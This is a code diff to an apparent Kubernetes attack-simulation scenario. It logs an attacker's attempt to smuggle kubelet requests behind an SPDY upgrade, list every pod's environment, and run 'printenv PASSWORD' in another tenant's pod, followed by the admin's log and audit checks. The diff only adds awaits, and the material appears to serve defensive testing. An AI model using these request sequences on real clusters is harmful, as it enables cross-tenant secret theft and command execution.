@@ -44,7 +44,7 @@ export const smuggledBehindUpgrade: Scenario = {
     const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mine', namespace: 'tenant' }, spec };
     await createObjects(admin, [{ path: '/api/v1/namespaces/tenant/pods', object: pod }]);
     await cluster.whenRunning('node-1', 'tenant', 'mine');
-    stage.did(
+    await stage.did(
       'admin',
       'kubectl -n tenant run mine …',
       'pod/mine runs on node-1; mallory may create pods/exec',
@@ -77,7 +77,7 @@ export const smuggledBehindUpgrade: Scenario = {
       ['Upgrade', 'SPDY/3.1'],
     ]);
     const refused = await nextAnswer(socket);
-    stage.did(
+    await stage.did(
       'attacker',
       'POST …/namespaces/tenant/pods/mine/exec?command=id, Upgrade: SPDY/3.1',
       `${refused?.status} ${refused?.body.trim()}`,
@@ -92,23 +92,24 @@ export const smuggledBehindUpgrade: Scenario = {
     if (pods?.body.includes(password)) {
       const names = (JSON.parse(pods.body) as { items: { metadata: { name: string } }[] }).items;
       const saw = `200, ${names.length} pods of node-1; db has PASSWORD=${password}`;
-      stage.gained('attacker', list, saw, 'every pod of the node with its environment');
-    } else stage.refused('attacker', list, pods === null ? CLOSED : `${pods.status} ${pods.body.trim()}`);
+      await stage.gained('attacker', list, saw, 'every pod of the node with its environment');
+    } else
+      await stage.refused('attacker', list, pods === null ? CLOSED : `${pods.status} ${pods.body.trim()}`);
     const run = await ask('POST', '/run/default/db/db?cmd=printenv+PASSWORD');
     const command = 'on the same connection: POST /run/default/db/db?cmd=printenv+PASSWORD';
     if (run?.body.includes(password))
-      stage.gained(
+      await stage.gained(
         'attacker',
         command,
         `200 ${run.body.trim()}`,
         'a command run in the pod of somebody else',
       );
-    else stage.refused('attacker', command, run === null ? CLOSED : `${run.status} ${run.body.trim()}`);
+    else await stage.refused('attacker', command, run === null ? CLOSED : `${run.status} ${run.body.trim()}`);
     socket.destroy();
     stop();
 
-    stage.did('admin', 'journalctl -u kubelet, on node-1', heard.join(', '));
+    await stage.did('admin', 'journalctl -u kubelet, on node-1', heard.join(', '));
     const told = await audit.told(cluster, `system:serviceaccount:${account.namespace}:${account.name}`);
-    stage.did('admin', 'grep mallory audit.log', told.join(', '));
+    await stage.did('admin', 'grep mallory audit.log', told.join(', '));
   },
 };
